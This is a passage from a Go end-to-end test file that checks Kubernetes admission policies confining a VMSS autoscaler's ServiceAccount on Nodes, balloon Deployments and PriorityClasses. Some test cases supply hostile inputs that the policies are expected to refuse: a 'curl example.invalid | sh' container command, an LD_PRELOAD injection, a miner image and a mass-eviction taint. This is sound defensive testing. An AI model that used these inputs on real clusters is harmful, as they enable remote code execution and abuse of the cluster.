package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	apiv1 "k8s.io/api/core/v1"
	schedulingv1 "k8s.io/api/scheduling/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"

	"github.com/vmss-autoscaler/vmss-autoscaler/balloon"
	"github.com/vmss-autoscaler/vmss-autoscaler/charts"
	"github.com/vmss-autoscaler/vmss-autoscaler/core/actuation"
	"github.com/vmss-autoscaler/vmss-autoscaler/core/scaledown"
	"github.com/vmss-autoscaler/vmss-autoscaler/e2e/harness"
	"github.com/vmss-autoscaler/vmss-autoscaler/preflight"
)

// The admission policies that hold the autoscaler's own ServiceAccount to
// what its code writes (SECURITY.md, "What a stolen autoscaler token can
// do"): on Nodes only its two taints and its cordon; balloon Deployments
// only as the balloon controller builds them; the balloon PriorityClass
// only with the chart's fields. Each test applies the chart to the real API
// server, then acts with a token of the chart's ServiceAccount: what the
// autoscaler's own code writes (actuation.KubeNodeActions, balloon.Options)
// is admitted, anything else refused with the policy's message.

// policiesScenario is the chart applied with its admission policies, a
// balloon PriorityClass of its own (value -50) and a GPU ceiling of 8 per
// balloon.
type policiesScenario struct {
	*securityScenario
	balloonNS string
	// opts are the balloon options the chart's flags give the binary.
	opts balloon.Options
	// as is a client with a token of the autoscaler's ServiceAccount.
	as kubernetes.Interface
}

const policiesPriorityValue = -50

func newPoliciesScenario(t *testing.T, release string, config ...string) *policiesScenario {
	return newPoliciesScenarioWith(t, release, nil, config...)
}

// newPoliciesScenarioWith is newPoliciesScenario with the chart's values
// changed by edit (given the scenario, for its namespace and prefix)
// before they are applied.
func newPoliciesScenarioWith(t *testing.T, release string, edit func(sc *scenario, values map[string]any), config ...string) *policiesScenario {
	sc := newScenario(t)
	balloonNS, pc := sc.ns+"-balloons", sc.prefix+"-balloon"
	values := map[string]any{
		"image":        map[string]any{"repository": "example.invalid/vmss-autoscaler"},
		"nodeSelector": map[string]any{"e2e.vmss-autoscaler.io/no-such-node": "true"},
		"config": map[string]any{
			"nodes":                  []any{"0:10:" + sc.prefix + "-none"},
			"balloon-namespace":      balloonNS,
			"balloon-priority-class": pc,
			"balloon-priority-value": policiesPriorityValue,
		},
		"admissionPolicies": map[string]any{"balloonMaxResources": map[string]any{"nvidia.com/gpu": "8"}},
		"preflight": map[string]any{"enabled": true, "library": map[string]any{"gpus": map[string]any{"enabled": false},
			"ecc": map[string]any{"enabled": false}, "xid": map[string]any{"enabled": false}, "dcgm": map[string]any{"enabled": false}}},
	}
	for _, key := range config { // boolean switches turned on
		values["config"].(map[string]any)[key] = true
	}
	if edit != nil {
		edit(sc, values)
	}
	keep := sc.applyChart(values, release)
	t.Cleanup(func() {
		sc.deleteClusterScoped(keep)
		_ = sc.s.cp.Client.SchedulingV1().PriorityClasses().Delete(context.Background(), pc, metav1.DeleteOptions{})
	})
	ss := &securityScenario{scenario: sc, full: release + "-vmss-autoscaler", objs: keep}
	ss.grantsInForce()
	o := balloon.DefaultOptions()
	o.Namespace, o.PriorityClassName, o.PriorityValue = balloonNS, pc, policiesPriorityValue
	return &policiesScenario{securityScenario: ss, balloonNS: balloonNS, opts: o, as: ss.client(ss.token(ss.full, nil))}
}

// typeChecked waits until the API server has type-checked each policy of
// the chart named full-<suffix>, and fails on any warning: an expression
// naming a field the schema does not have (has(c.comand)) is never true,
// and a check built on it would pass everything.
func (ps *policiesScenario) typeChecked(suffixes ...string) {
	ps.t.Helper()
	vaps := ps.s.cp.Client.AdmissionregistrationV1().ValidatingAdmissionPolicies()
	for _, s := range suffixes {
		name := ps.full + "-" + s
		ps.eventually("policy "+name+" type-checked", 30*time.Second, func() (bool, string) {
			p, err := vaps.Get(ps.ctx, name, metav1.GetOptions{})
			if apierrors.IsNotFound(err) {
				ps.t.Fatalf("the chart has no ValidatingAdmissionPolicy %s", name)
			}
			if err != nil {
				return false, err.Error()
			}
			if p.Status.ObservedGeneration != p.Generation || p.Status.TypeChecking == nil {
				return false, fmt.Sprintf("status %+v", p.Status)
			}
			for _, w := range p.Status.TypeChecking.ExpressionWarnings {
				ps.t.Errorf("policy %s: %s: %s", name, w.FieldRef, w.Warning)
			}
			return true, ""
		})
	}
}

// The autoscaler's ServiceAccount on Nodes: what its code writes
// (actuation.KubeNodeActions: the ToBeDeleted and DeletionCandidate taints
// added and removed, a cordon with its annotation, the uncordon of its own
// cordon) is admitted; a NoExecute taint, its own taint as NoExecute, a
// label, another annotation, a cordon without its annotation and the
// uncordon of an operator's cordon are refused with the policy's message.
func TestSecurityAutoscalerNodeWritesHeld(t *testing.T) {
	t.Parallel()
	ps := newPoliciesScenario(t, "e2e-sec-nodes")
	ps.typeChecked("autoscaler-nodes")
	ctx, admin := ps.ctx, ps.s.cp.Client
	a, probe := ps.node(ps.prefix+"-node-a"), ps.node(ps.prefix+"-probe")
	operator := ps.node(ps.prefix + "-cordoned")
	must(t, update(ctx, admin, operator.Name, func(n *apiv1.Node) { n.Spec.Unschedulable = true }))
	// A node that passed preflight (the agent's writes), which the
	// autoscaler did not cordon.
	passed := ps.node(ps.prefix + "-passed")
	must(t, update(ctx, admin, passed.Name, func(n *apiv1.Node) {
		n.Spec.Taints = withoutTaint(n.Spec.Taints, preflight.DefaultTaintKey)
		n.Labels[preflight.DefaultLabel] = preflight.ValuePassed
	}))

	// The API server loads a new policy within a moment: probe with a label
	// on the probe node (taken back if admitted) until refused.
	ps.eventually("the autoscaler's node policy in force", 30*time.Second, func() (bool, string) {
		err := update(ctx, ps.as, probe.Name, func(n *apiv1.Node) { n.Labels["e2e.vmss-autoscaler.io/probe"] = "x" })
		if err == nil {
			must(t, update(ctx, admin, probe.Name, func(n *apiv1.Node) { delete(n.Labels, "e2e.vmss-autoscaler.io/probe") }))
		}
		return apierrors.IsForbidden(err), fmt.Sprintf("label update of the probe node: %v", err)
	})

	const taintsMsg = "vmss-autoscaler may add or remove only its ToBeDeletedByClusterAutoscaler and DeletionCandidateOfClusterAutoscaler taints"
	const labelsMsg = "vmss-autoscaler may not change the labels of a node (but the vmss-autoscaler.io/preflight label to pending, on a node it cordoned)"
	const preflightLabelMsg = "vmss-autoscaler may set the vmss-autoscaler.io/preflight label only to pending, only on a node its health handling cordoned, and never remove it"
	const preflightTaintMsg = "vmss-autoscaler may add the vmss-autoscaler.io/preflight taint (NoSchedule) only to a node its health handling cordoned, and never remove it"
	const recordMsg = "vmss-autoscaler may write its vmss-autoscaler.io/repair (at most 4096 bytes) and vmss-autoscaler.io/preflight-again-at annotations only on a node its health handling cordoned"
	const cordonMsg = "vmss-autoscaler may cordon a node only with its vmss-autoscaler.io/cordoned annotation, set that annotation only as it cordons, and uncordon only a node it cordoned (removing the annotation)"
	annotate := func(n *apiv1.Node, k, v string) {
		if n.Annotations == nil {
			n.Annotations = map[string]string{}
		}
		n.Annotations[k] = v
	}
	for _, tc := range []struct {
		name   string
		node   string
		change func(*apiv1.Node)
		want   string
	}{
		{"a NoExecute taint (mass eviction)", a.Name, func(n *apiv1.Node) {
			n.Spec.Taints = append(n.Spec.Taints, apiv1.Taint{Key: "example.com/evict", Effect: apiv1.TaintEffectNoExecute})
		}, taintsMsg},
		{"its own taint as NoExecute", a.Name, func(n *apiv1.Node) {
			n.Spec.Taints = append(n.Spec.Taints, apiv1.Taint{Key: scaledown.ToBeDeletedTaint, Value: "1", Effect: apiv1.TaintEffectNoExecute})
		}, "vmss-autoscaler taints a node ToBeDeletedByClusterAutoscaler:NoSchedule and DeletionCandidateOfClusterAutoscaler:PreferNoSchedule only, not ToBeDeletedByClusterAutoscaler:NoExecute"},
		{"remove the team taint", a.Name, func(n *apiv1.Node) { n.Spec.Taints = withoutTaint(n.Spec.Taints, "openai.com/team") }, taintsMsg},
		{"remove the preflight taint", a.Name, func(n *apiv1.Node) {
			n.Spec.Taints = withoutTaint(n.Spec.Taints, "vmss-autoscaler.io/preflight")
		}, preflightTaintMsg},
		{"add the preflight taint to a node it did not cordon", passed.Name, func(n *apiv1.Node) {
			n.Spec.Taints = append(n.Spec.Taints, apiv1.Taint{Key: preflight.DefaultTaintKey, Value: "pending", Effect: apiv1.TaintEffectNoSchedule})
		}, preflightTaintMsg},
		{"send a node it did not cordon through preflight again", passed.Name, func(n *apiv1.Node) { n.Labels[preflight.DefaultLabel] = preflight.ValuePending },
			preflightLabelMsg},
		{"remove the preflight label", a.Name, func(n *apiv1.Node) { delete(n.Labels, preflight.DefaultLabel) }, preflightLabelMsg},
		{"a repair record on a node it did not cordon", passed.Name, func(n *apiv1.Node) { annotate(n, actuation.RepairAnnotation, "{}") }, recordMsg},
		{"add a label (attract sensitive pods)", a.Name, func(n *apiv1.Node) { n.Labels["example.com/secure-zone"] = "true" }, labelsMsg},
		{"change the team label", a.Name, func(n *apiv1.Node) { n.Labels["openai.com/team"] = "other" }, labelsMsg},
		{"mark the node passed", a.Name, func(n *apiv1.Node) { n.Labels["vmss-autoscaler.io/preflight"] = "passed" }, preflightLabelMsg},
		{"add another annotation", a.Name, func(n *apiv1.Node) { annotate(n, "example.com/other", "x") },
			"vmss-autoscaler may change only its vmss-autoscaler.io/cordoned, vmss-autoscaler.io/repair and vmss-autoscaler.io/preflight-again-at annotations of a node"},
		{"cordon without its annotation", a.Name, func(n *apiv1.Node) { n.Spec.Unschedulable = true }, cordonMsg},
		{"its annotation without a cordon", a.Name, func(n *apiv1.Node) { annotate(n, actuation.CordonedAnnotation, "x") }, cordonMsg},
		{"uncordon an operator's cordon", operator.Name, func(n *apiv1.Node) { n.Spec.Unschedulable = false }, cordonMsg},
		{"claim an operator's cordon", operator.Name, func(n *apiv1.Node) {
			annotate(n, actuation.CordonedAnnotation, "preflight-failed 2026-01-01T00:00:00Z")
		}, cordonMsg},
		{"set a provider ID", a.Name, func(n *apiv1.Node) { n.Spec.ProviderID = "azure:///subscriptions/x/stolen" },
			"vmss-autoscaler may not change a node's provider ID, pod CIDRs, finalizers or owners"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantRefused(t, tc.name, update(ctx, ps.as, tc.node, tc.change), tc.want)
		})
	}

	// The autoscaler's own writes, by its own code, as its ServiceAccount.
	acts := &actuation.KubeNodeActions{Client: ps.as}
	get := func(name string) *apiv1.Node {
		t.Helper()
		n, err := admin.CoreV1().Nodes().Get(ctx, name, metav1.GetOptions{})
		must(t, err)
		return n
	}
	taint := func(n *apiv1.Node, key string) *apiv1.Taint {
		for i := range n.Spec.Taints {
			if n.Spec.Taints[i].Key == key {
				return &n.Spec.Taints[i]
			}
		}
		return nil
	}
	now := time.Now()
	candidate := apiv1.Taint{Key: scaledown.DeletionCandidateTaint, Value: fmt.Sprint(now.Unix()), Effect: apiv1.TaintEffectPreferNoSchedule}
	must(t, acts.AddTaint(ctx, a.Name, candidate))
	must(t, acts.AddTaint(ctx, a.Name, actuation.ToBeDeleted(now)))
	n := get(a.Name)
	if tc, td := taint(n, scaledown.DeletionCandidateTaint), taint(n, scaledown.ToBeDeletedTaint); tc == nil || td == nil ||
		tc.Effect != apiv1.TaintEffectPreferNoSchedule || td.Effect != apiv1.TaintEffectNoSchedule {
		t.Fatalf("after adding its taints: %+v", n.Spec.Taints)
	}
	t.Logf("admitted: its two taints added: %+v", ownTaints(n))
	must(t, acts.RemoveTaint(ctx, a.Name, scaledown.DeletionCandidateTaint))
	must(t, acts.RemoveTaint(ctx, a.Name, scaledown.ToBeDeletedTaint))
	if n := get(a.Name); taint(n, scaledown.DeletionCandidateTaint) != nil || taint(n, scaledown.ToBeDeletedTaint) != nil {
		t.Fatalf("after removing its taints: %+v", n.Spec.Taints)
	}
	t.Log("admitted: its two taints removed")
	must(t, acts.Cordon(ctx, a.Name, "preflight-failed"))
	if why, ok := actuation.CordonedBy(get(a.Name)); !ok || !strings.HasPrefix(why, "preflight-failed ") {
		t.Fatalf("after its cordon: cordoned by it %v (%q)", ok, why)
	}
	t.Log("admitted: a cordon with its annotation")
	// Its cordon is its own to take back; the operator's is not, and the
	// code leaves it alone (no write at all).
	must(t, acts.Uncordon(ctx, a.Name))
	must(t, acts.Uncordon(ctx, operator.Name))
	n = get(a.Name)
	if _, ok := n.Annotations[actuation.CordonedAnnotation]; ok || n.Spec.Unschedulable {
		t.Fatalf("after its uncordon: unschedulable %v, annotations %v", n.Spec.Unschedulable, n.Annotations)
	}
	if !get(operator.Name).Spec.Unschedulable {
		t.Fatal("the operator's cordon was lifted")
	}
	t.Log("admitted: the uncordon of its own cordon")
	// Its cordon taken back by an operator, the annotation left behind: its
	// uncordon then drops the annotation alone.
	must(t, acts.Cordon(ctx, a.Name, "preflight-failed"))
	must(t, update(ctx, admin, a.Name, func(n *apiv1.Node) { n.Spec.Unschedulable = false }))
	must(t, acts.Uncordon(ctx, a.Name))
	if _, ok := get(a.Name).Annotations[actuation.CordonedAnnotation]; ok {
		t.Fatal("its stale cordon annotation was not removed")
	}
	// A repair ladder's writes, by its own code: on a node it cordoned,
	// its record and preflight again (taint, pending label, again-at) are
	// admitted; a record over 4096 bytes is not; on a node it did not
	// cordon the code writes nothing (ErrNotCordoned).
	again := &actuation.PreflightAgain{Taint: apiv1.Taint{Key: preflight.DefaultTaintKey, Value: "pending", Effect: apiv1.TaintEffectNoSchedule},
		Label: preflight.DefaultLabel, Value: preflight.ValuePending, AgainAnnotation: preflight.AgainAnnotation, At: now}
	record := func(string) string { return `{"run":{"rule":"xid-error","step":0,"action":"reboot"}}` }
	if err := acts.UpdateRepair(ctx, passed.Name, record, again); !errors.Is(err, actuation.ErrNotCordoned) {
		t.Fatalf("repair write on a node it did not cordon: %v, want ErrNotCordoned", err)
	}
	// Its cordon for a failed preflight is not a health cordon: no
	// repair record there.
	must(t, acts.Cordon(ctx, passed.Name, "preflight-failed"))
	wantRefused(t, "a repair record on a node cordoned for preflight", update(ctx, ps.as, passed.Name, func(n *apiv1.Node) {
		annotate(n, actuation.RepairAnnotation, "{}")
	}), recordMsg)
	must(t, acts.Uncordon(ctx, passed.Name))
	// Without its preflight label (a pool that joins ungated), the
	// label is added as pending.
	must(t, update(ctx, admin, passed.Name, func(n *apiv1.Node) { delete(n.Labels, preflight.DefaultLabel) }))
	must(t, acts.Cordon(ctx, passed.Name, "health/xid-error"))
	must(t, acts.UpdateRepair(ctx, passed.Name, record, again))
	n = get(passed.Name)
	if n.Labels[preflight.DefaultLabel] != preflight.ValuePending || taint(n, preflight.DefaultTaintKey) == nil ||
		n.Annotations[actuation.RepairAnnotation] == "" || n.Annotations[preflight.AgainAnnotation] == "" {
		t.Fatalf("after sending it through preflight again: labels %v, taints %+v, annotations %v", n.Labels, n.Spec.Taints, n.Annotations)
	}
	t.Log("admitted: on a node it cordoned, its repair record and preflight again")
	wantRefused(t, "a repair record over 4096 bytes", update(ctx, ps.as, passed.Name, func(n *apiv1.Node) {
		annotate(n, actuation.RepairAnnotation, strings.Repeat("é", 2049)) // 2,049 runes, 4,098 bytes
	}), recordMsg)
	wantRefused(t, "mark a node it cordoned passed", update(ctx, ps.as, passed.Name, func(n *apiv1.Node) {
		n.Labels[preflight.DefaultLabel] = preflight.ValuePassed
	}), preflightLabelMsg)
	// Nothing else of the node changed.
	n = get(a.Name)
	if own := ownTaints(n); len(own) != 2 || n.Labels["openai.com/team"] != "rl" || n.Labels["vmss-autoscaler.io/preflight"] != "pending" ||
		n.Spec.Unschedulable || n.Spec.ProviderID != "" {
		t.Fatalf("node A after the test: labels %v, taints %+v, unschedulable %v", n.Labels, n.Spec.Taints, n.Spec.Unschedulable)
	}
}

// balloonSpec is a GPU group's balloon: a whole 8-GPU node, no replica
// (no pod is wanted here: the content is what is checked).
func balloonSpec(group string) balloon.GroupSpec {
	return balloon.GroupSpec{Group: group, Replicas: 0, Requests: apiv1.ResourceList{
		apiv1.ResourceCPU: resource.MustParse("90"), apiv1.ResourceMemory: resource.MustParse("1800Gi"),
		"nvidia.com/gpu": resource.MustParse("8"),
	}}
}

// The balloon Deployments of the autoscaler's ServiceAccount: the one the
// balloon controller builds is created and updated; another image, a
// command, a volume, a token, another PriorityClass, limits above requests,
// more GPUs than admissionPolicies.balloonMaxResources, an init container,
// a nodeName, a toleration of every taint or of the preflight taint, or
// more than balloonMaxReplicas replicas are refused, on create and on
// update.
func TestSecurityBalloonDeploymentPinned(t *testing.T) {
	t.Parallel()
	ps := newPoliciesScenario(t, "e2e-sec-balloon")
	ps.typeChecked("balloon-deployments")
	ctx := ps.ctx
	deps := ps.as.AppsV1().Deployments(ps.balloonNS)
	const prefix = "vmss-autoscaler may write only balloon Deployments as its controller builds them: "
	const placement = prefix + "scheduled, never pinned to a node (no nodeName), and no toleration of every taint or of the vmss-autoscaler.io/preflight taint (a node still in preflight)"
	miner := func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[0].Image = "example.invalid/miner:latest" }
	ps.eventually("the balloon Deployment policy in force", 30*time.Second, func() (bool, string) {
		d := ps.opts.Deployment(balloonSpec("probe"))
		miner(d)
		_, err := deps.Create(ctx, d, metav1.CreateOptions{})
		if err == nil {
			must(t, ps.s.cp.Client.AppsV1().Deployments(ps.balloonNS).Delete(ctx, d.Name, metav1.DeleteOptions{}))
		}
		return apierrors.IsForbidden(err), fmt.Sprintf("create of a miner: %v", err)
	})

	// The controller's own Deployment: created, then updated as its Sync
	// does (the wanted spec written over the stored object).
	good := ps.opts.Deployment(balloonSpec("gpu"))
	if _, err := deps.Create(ctx, good, metav1.CreateOptions{}); err != nil {
		t.Fatalf("create of the controller's balloon Deployment: %v", err)
	}
	spec := balloonSpec("gpu")
	spec.Replicas = 0
	spec.Requests[apiv1.ResourceCPU] = resource.MustParse("88")
	want := ps.opts.Deployment(spec)
	// The controller reads from its informer (list/watch: no get): read
	// as the administrator, write as the autoscaler, again on a conflict
	// (the Deployment controller writes the object too; the API server
	// checks the resourceVersion before admission).
	adminDeps := ps.s.cp.Client.AppsV1().Deployments(ps.balloonNS)
	updateAs := func(name string, change func(*appsv1.Deployment)) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			d, err := adminDeps.Get(ctx, name, metav1.GetOptions{})
			if err != nil {
				return err
			}
			change(d)
			_, err = deps.Update(ctx, d, metav1.UpdateOptions{})
			return err
		})
	}
	if err := updateAs(good.Name, func(d *appsv1.Deployment) { d.Spec, d.Annotations = want.Spec, want.Annotations }); err != nil {
		t.Fatalf("update of the controller's balloon Deployment: %v", err)
	}
	t.Log("admitted: the controller's balloon Deployment, created and updated")

	resources := func(d *appsv1.Deployment) *apiv1.ResourceRequirements {
		return &d.Spec.Template.Spec.Containers[0].Resources
	}
	for _, tc := range []struct {
		name   string
		change func(*appsv1.Deployment)
		want   string
	}{
		{"another image", miner, prefix + "one container, pause, of image registry.k8s.io/pause:3.10, and no init container; not pause (example.invalid/miner:latest)"},
		{"an init container", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.InitContainers = []apiv1.Container{{Name: "setup", Image: balloon.DefaultImage}}
		}, "and no init container; not pause (registry.k8s.io/pause:3.10) with init containers"},
		{"a second container", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, apiv1.Container{Name: "miner", Image: "example.invalid/miner"})
		}, "not pause (registry.k8s.io/pause:3.10), miner (example.invalid/miner)"},
		{"pinned to a node", func(d *appsv1.Deployment) { d.Spec.Template.Spec.NodeName = "gpu-0" }, placement},
		{"a toleration of every taint", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Tolerations = append(d.Spec.Template.Spec.Tolerations, apiv1.Toleration{Operator: apiv1.TolerationOpExists})
		}, placement},
		{"a toleration of the preflight taint", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Tolerations = append(d.Spec.Template.Spec.Tolerations, apiv1.Toleration{Key: preflight.DefaultTaintKey, Operator: apiv1.TolerationOpExists})
		}, placement},
		{"101 balloons", func(d *appsv1.Deployment) { d.Spec.Replicas = new(int32(101)) }, prefix + "at most --balloon-max-replicas (100) balloons, not 101"},
		{"a command", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl example.invalid | sh"}
		}, prefix + "the container runs its image's own entrypoint, with no command, arguments, environment, volume mounts, probes or lifecycle hooks"},
		{"an environment", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Containers[0].Env = []apiv1.EnvVar{{Name: "LD_PRELOAD", Value: "/x.so"}}
		}, "the container runs its image's own entrypoint"},
		{"a volume", func(d *appsv1.Deployment) {
			d.Spec.Template.Spec.Volumes = []apiv1.Volume{{Name: "data", VolumeSource: apiv1.VolumeSource{EmptyDir: &apiv1.EmptyDirVolumeSource{}}}}
		}, prefix + "no volume, no ServiceAccount token (automountServiceAccountToken false, the default ServiceAccount), no host namespace"},
		{"the ServiceAccount token", func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = new(true) },
			"no volume, no ServiceAccount token"},
		{"the token left to the default", func(d *appsv1.Deployment) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil },
			"no volume, no ServiceAccount token"},
		{"another ServiceAccount", func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "vmss-autoscaler" },
			"no volume, no ServiceAccount token"},
		{"another PriorityClass", func(d *appsv1.Deployment) { d.Spec.Template.Spec.PriorityClassName = "system-cluster-critical" },
			prefix + "PriorityClass " + ps.opts.PriorityClassName + ", not system-cluster-critical"},
		{"limits above requests", func(d *appsv1.Deployment) { resources(d).Limits[apiv1.ResourceCPU] = resource.MustParse("96") },
			prefix + "limits equal to requests, resource by resource (one balloon fills one node)"},
		{"a GPU request beyond the shape", func(d *appsv1.Deployment) {
			resources(d).Requests["nvidia.com/gpu"] = resource.MustParse("16")
			resources(d).Limits["nvidia.com/gpu"] = resource.MustParse("16")
		}, prefix + "each request at most admissionPolicies.balloonMaxResources (nvidia.com/gpu=8); not nvidia.com/gpu=16"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := ps.opts.Deployment(balloonSpec("other"))
			tc.change(d)
			wantRefused(t, "create with "+tc.name, errOf(deps.Create(ctx, d, metav1.CreateOptions{})), tc.want)
			wantRefused(t, "update with "+tc.name, updateAs(good.Name, tc.change), tc.want)
		})
	}
	// The controller's Deployment is as it wrote it.
	got, err := adminDeps.Get(ctx, good.Name, metav1.GetOptions{})
	must(t, err)
	if c := got.Spec.Template.Spec.Containers; len(c) != 1 || c[0].Image != balloon.DefaultImage || got.Annotations[balloon.SpecHashAnnotation] != want.Annotations[balloon.SpecHashAnnotation] {
		t.Fatalf("the balloon Deployment changed: containers %+v, annotations %v", c, got.Annotations)
	}
}

// The balloon PriorityClass, created by the autoscaler's ServiceAccount:
// as the controller builds it (the chart's value, preemptionPolicy Never,
// not the global default) it is admitted; as the global default, at
// another value or preempting, it is refused.
func TestSecurityBalloonPriorityClassPinned(t *testing.T) {
	t.Parallel()
	ps := newPoliciesScenario(t, "e2e-sec-pc")
	ps.typeChecked("balloon-priority-class")
	ctx, pcs := ps.ctx, ps.as.SchedulingV1().PriorityClasses()
	pc := func(change func(*schedulingv1.PriorityClass)) *schedulingv1.PriorityClass {
		p := ps.opts.PriorityClass()
		change(p)
		return p
	}
	// The chart created the PriorityClass: a create of the same name is
	// refused by the policy before it could be refused as existing, so
	// these probes write nothing whether the policy is in force or not.
	ps.eventually("the balloon PriorityClass policy in force", 30*time.Second, func() (bool, string) {
		_, err := pcs.Create(ctx, pc(func(p *schedulingv1.PriorityClass) { p.Value = -49 }), metav1.CreateOptions{})
		return apierrors.IsForbidden(err), fmt.Sprintf("create at value -49: %v", err)
	})
	const prefix = "vmss-autoscaler may create the balloon PriorityClass only as value -50, preemptionPolicy Never, globalDefault false; not "
	lower := apiv1.PreemptLowerPriority
	for _, tc := range []struct {
		name   string
		change func(*schedulingv1.PriorityClass)
		want   string
	}{
		{"the global default", func(p *schedulingv1.PriorityClass) { p.GlobalDefault = true },
			prefix + "value -50, preemptionPolicy Never, globalDefault true"},
		{"another negative value", func(p *schedulingv1.PriorityClass) { p.Value = -100 },
			prefix + "value -100, preemptionPolicy Never, globalDefault false"},
		{"a high value", func(p *schedulingv1.PriorityClass) { p.Value = 1000000 },
			prefix + "value 1000000, preemptionPolicy Never, globalDefault false"},
		{"preempting", func(p *schedulingv1.PriorityClass) { p.PreemptionPolicy = &lower },
			prefix + "value -50, preemptionPolicy PreemptLowerPriority, globalDefault false"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			wantRefused(t, tc.name, errOf(pcs.Create(ctx, pc(tc.change), metav1.CreateOptions{})), tc.want)
		})
	}
	// Another name is the own-objects policy's to refuse, whatever its fields.
	other := ps.prefix + "-default"
	wantRefused(t, "another PriorityClass as the global default", errOf(pcs.Create(ctx, &schedulingv1.PriorityClass{
		ObjectMeta: metav1.ObjectMeta{Name: other}, Value: -50, GlobalDefault: true}, metav1.CreateOptions{})),
		"vmss-autoscaler may create only its own priorityclasses, not "+other)
	t.Cleanup(func() {
		_ = ps.s.cp.Client.SchedulingV1().PriorityClasses().Delete(context.Background(), other, metav1.DeleteOptions{})
	})
	// Deleted, the controller's own is admitted (the controller recreates
	// a deleted PriorityClass before writing balloons).
	must(t, ps.s.cp.Client.SchedulingV1().PriorityClasses().Delete(ctx, ps.opts.PriorityClassName, metav1.DeleteOptions{}))
	ps.eventually("the controller's PriorityClass created by its ServiceAccount", 30*time.Second, func() (bool, string) {
		_, err := pcs.Create(ctx, ps.opts.PriorityClass(), metav1.CreateOptions{})
		return err == nil, fmt.Sprintf("create: %v", err) // AlreadyExists while the deletion lands
	})
	got, err := ps.s.cp.Client.SchedulingV1().PriorityClasses().Get(ctx, ps.opts.PriorityClassName, metav1.GetOptions{})
	must(t, err)
	if got.Value != policiesPriorityValue || got.GlobalDefault || got.PreemptionPolicy == nil || *got.PreemptionPolicy != apiv1.PreemptNever {
		t.Fatalf("PriorityClass %s: value %d, globalDefault %v, preemptionPolicy %v", got.Name, got.Value, got.GlobalDefault, got.PreemptionPolicy)
	}
}

// The chart refuses the preflight agent without its admission policy:
// the agent's token on every GPU node could otherwise update every Node.
func TestSecurityPreflightNeedsAgentPolicy(t *testing.T) {
	t.Parallel()
	root, err := harness.RepoRoot()
	must(t, err)
	dir := filepath.Join(root, "charts", "vmss-autoscaler")
	values := func(preflight bool) map[string]any {
		return map[string]any{
			"image":             map[string]any{"repository": "example.invalid/vmss-autoscaler"},
			"admissionPolicies": map[string]any{"enabled": false},
			"preflight":         map[string]any{"enabled": preflight},
		}
	}
	_, err = charts.Render(dir, values(true), "e2e-sec-nopolicy", "kube-system")
	const want = "preflight.enabled needs admissionPolicies.enabled"
	if err == nil || !strings.Contains(err.Error(), want) {
		t.Fatalf("render with the agent and no admission policy: %v, want an error containing %q", err, want)
	}
	t.Logf("refused: %v", err)
	objs, err := charts.Render(dir, values(false), "e2e-sec-nopolicy", "kube-system")
	must(t, err)
	for _, o := range objs {
		if strings.HasPrefix(o.GetKind(), "ValidatingAdmissionPolicy") || o.GetKind() == "DaemonSet" {
			t.Errorf("rendered %s %s with admissionPolicies and preflight off", o.GetKind(), o.GetName())
		}
	}
}

// The real autoscaler, run as the chart runs it (the rendered flags, the
// chart's ServiceAccount token) under every admission policy of the chart,
// with a warm pool and a fast scale-down: its balloon controller creates
// the balloon PriorityClass (deleted after the chart made it) and the
// balloon Deployment, its warm node holds a balloon, and its scale-down
// taints and deletes the nodes a workload no longer needs. None of its
// writes is refused by a policy.
func TestSecurityPoliciesAdmitTheRealAutoscaler(t *testing.T) {
	t.Parallel()
	sc := newScenario(t)
	cpu := sc.scaleSet("cpu", "Standard_D16s_v5", 0, nil)
	const release = "e2e-sec-real"
	balloonNS, pc := sc.ns+"-balloons", sc.prefix+"-balloon"
	values := map[string]any{
		"image":        map[string]any{"repository": "example.invalid/vmss-autoscaler"},
		"nodeSelector": map[string]any{"e2e.vmss-autoscaler.io/no-such-node": "true"},
		"azure":        map[string]any{"subscriptionID": subscription},
		"config": sc.chartSimConfig(map[string]any{
			"nodes":                          []any{"0:10:" + cpu},
			"warm-pool":                      []any{cpu + ":1"},
			"node-addition-adaptive":         false,
			"scale-down-unneeded-time":       "3s",
			"scale-down-unready-time":        "3s",
			"scale-down-delay-after-add":     "0s",
			"scale-down-delay-after-failure": "2s",
			"scale-down-brake-cluster-share": 1,
			"scale-down-brake-group-share":   1,
			"balloon-namespace":              balloonNS,
			"balloon-priority-class":         pc,
		}),
		"admissionPolicies": map[string]any{"balloonMaxResources": map[string]any{"cpu": "16", "memory": "64Gi"}},
	}
	root, err := harness.RepoRoot()
	must(t, err)
	objs, err := charts.Render(filepath.Join(root, "charts", "vmss-autoscaler"), values, release, sc.ns)
	must(t, err)
	var keep []*unstructured.Unstructured
	var dep *appsv1.Deployment
	var cm *apiv1.ConfigMap
	for _, o := range objs {
		switch {
		case o.GetKind() == "Deployment":
			dep = &appsv1.Deployment{}
			must(t, runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, dep))
			continue
		case o.GetKind() == "DaemonSet":
			continue
		case o.GetKind() == "ConfigMap" && strings.HasSuffix(o.GetName(), "-config"):
			cm = &apiv1.ConfigMap{}
			must(t, runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, cm))
		}
